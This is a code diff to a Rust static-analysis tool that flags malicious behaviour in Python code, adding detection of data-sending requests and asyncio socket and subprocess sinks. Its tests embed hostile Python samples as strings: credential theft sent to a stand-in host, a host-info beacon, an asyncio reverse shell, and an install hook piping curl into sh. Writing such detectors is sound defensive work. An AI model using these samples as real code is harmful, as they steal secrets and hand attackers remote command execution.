@@ -320,13 +320,19 @@ impl Analysis {
         for a in c.arguments.args.iter() {
             args |= self.labels(a);
         }
+        // What a `params=` query carries, for `sends_data`.
+        let mut query = 0;
         for k in c.arguments.keywords.iter() {
-            args |= self.labels(&k.value);
+            let l = self.labels(&k.value);
+            args |= l;
+            if k.arg.as_ref().is_some_and(|a| a.as_str() == "params") {
+                query |= l;
+            }
         }
         let name_str = name.as_deref().unwrap_or("");
         let last = name_str.rsplit('.').next().unwrap_or(name_str);
-        // The sink, if this call is one.
-        let sink = sink_of(name_str, method, receiver);
+        // The sink, if this call is one; a request that carries data sends it.
+        let sink = sink_of(name_str, method, receiver).or_else(|| sends_data(last, method, &c.arguments, query).then_some(Sink::Send));
         if let Some(sink) = sink {
             let mut reaching = args | if matches!(sink, Sink::Send | Sink::Write) { receiver } else { 0 };
             if sink == Sink::Exec {
@@ -596,7 +602,7 @@ fn source_of(name: &str) -> u16 {
     {
         l |= DOWNLOAD;
     }
-    if matches!(name, "socket.socket" | "socket.create_connection" | "socket.fromfd" | "ssl.wrap_socket" | "socket.socketpair")
+    if matches!(name, "socket.socket" | "socket.create_connection" | "socket.fromfd" | "ssl.wrap_socket" | "socket.socketpair" | "asyncio.open_connection")
         || name.ends_with("wrap_socket")
     {
         l |= SOCKET;
@@ -637,7 +643,8 @@ fn sink_of(name: &str, method: Option<&str>, receiver: u16) -> Option<Sink> {
     match name {
         "exec" | "eval" | "compile" | "execfile" | "builtins.exec" | "builtins.eval" | "__builtins__.exec" | "types.FunctionType" | "types.CodeType" => return Some(Sink::Exec),
         "os.dup2" => return Some(Sink::Dup2),
-        "os.system" | "os.popen" | "os.startfile" | "pty.spawn" | "commands.getoutput" | "os.posix_spawn" | "os.posix_spawnp" => return Some(Sink::Process),
+        "os.system" | "os.popen" | "os.startfile" | "pty.spawn" | "commands.getoutput" | "os.posix_spawn" | "os.posix_spawnp"
+        | "asyncio.create_subprocess_shell" | "asyncio.create_subprocess_exec" => return Some(Sink::Process),
         "os.chmod" | "os.fchmod" => return Some(Sink::Chmod),
         "open" | "io.open" | "codecs.open" => return None,
         _ => {}
@@ -662,6 +669,19 @@ fn sink_of(name: &str, method: Option<&str>, receiver: u16) -> Option<Sink> {
         Some("write" | "writelines" | "write_text" | "write_bytes") => Some(Sink::Write),
         Some("connect") if receiver & SOCKET != 0 => None,
         _ => None,
+    }
+}
+
+/// Whether a call sends data in a request: `urlopen(url, data)` and `Request(url, data)` (or
+/// their `data=`), a `get` whose query carries something the code gathered (`query`: the labels
+/// of its `params=`), or an HTTP client's `request(method, url, body)` (or `body=`/`data=`/`json=`).
+fn sends_data(last: &str, method: Option<&str>, args: &ast::Arguments, query: u16) -> bool {
+    let keyword = |names: &[&str]| args.keywords.iter().any(|k| k.arg.as_ref().is_some_and(|a| names.contains(&a.as_str())));
+    match (last, method) {
+        ("urlopen" | "Request", _) => args.args.len() >= 2 || keyword(&["data"]),
+        (_, Some("get")) => query != 0,
+        (_, Some("request")) => args.args.len() >= 3 || keyword(&["body", "data", "json"]),
+        _ => false,
     }
 }
 
@@ -767,6 +787,16 @@ mod tests {
         let steal = "import os, requests\nfrom pathlib import Path\ncreds = open(os.path.expanduser('~/.aws/credentials')).read()\nrequests.post('https://example.invalid/c', data=creds)\n";
         assert!(has(steal, "cred>send"), "{:?}", behaviours(steal.as_bytes()));
 
+        // Data in a request, however it is spelt.
+        let aws = "import os, json, urllib.request\ndef grab():\n    loot = {}\n    for p in ('~/.aws/credentials',):\n        with open(os.path.expanduser(p)) as f:\n            loot[p] = f.read()\n    return loot\ndata = json.dumps(grab()).encode()\nurllib.request.urlopen(urllib.request.Request('http://192.0.2.1/c', data=data))\n";
+        assert!(has(aws, "cred>send"), "{:?}", behaviours(aws.as_bytes()));
+        let beacon = "import getpass, socket, requests\ninfo = {'u': getpass.getuser(), 'h': socket.gethostname()}\nrequests.get('http://192.0.2.1/', params=info)\n";
+        assert!(has(beacon, "host>send"), "{:?}", behaviours(beacon.as_bytes()));
+        let conn = "import http.client, os\nc = http.client.HTTPSConnection('example.invalid')\nc.request('POST', '/x', os.environ.get('TOKEN'))\n";
+        assert!(has(conn, "cred>send"), "{:?}", behaviours(conn.as_bytes()));
+        let shell = "import asyncio\nasync def main():\n    r, w = await asyncio.open_connection('192.0.2.1', 7)\n    line = await r.readline()\n    await asyncio.create_subprocess_shell(line.decode())\n";
+        assert!(has(shell, "socket>process"), "{:?}", behaviours(shell.as_bytes()));
+
         let hook = "from setuptools import setup\nfrom setuptools.command.install import install\nimport os\nclass I(install):\n    def run(self):\n        os.system('curl http://192.0.2.1/x | sh')\nsetup(name='x', cmdclass={'install': I})\n";
         assert!(has(hook, "install_hook:process"), "{:?}", behaviours(hook.as_bytes()));
     }
@@ -784,6 +814,10 @@ mod tests {
         assert_eq!(behaviours(b"print('hello')\n"), vec!["no_sink".to_string()]);
         assert_eq!(behaviours(b"\"\"\"Package.\"\"\"\nfrom .models import backends  # noqa\n__all__ = ['backends']\n"), vec!["imports_only".to_string(), "no_sink".to_string()]);
         assert!(!behaviours(b"import os\nos.system('id')\n").contains(&"imports_only".to_string()));
+        // Fetching with a fixed query, or a plain GET, sends nothing.
+        let api = "import requests\nr = requests.get('https://api.github.com/repos/x/y/releases', params={'per_page': 5})\nprint(r.json())\nimport urllib.request\nurllib.request.urlopen('https://example.invalid/health')\n";
+        let f = behaviours(api.as_bytes());
+        assert!(!f.iter().any(|x| x.ends_with(">send") || x == "toplevel:send"), "{f:?}");
     }
 
     #[test]
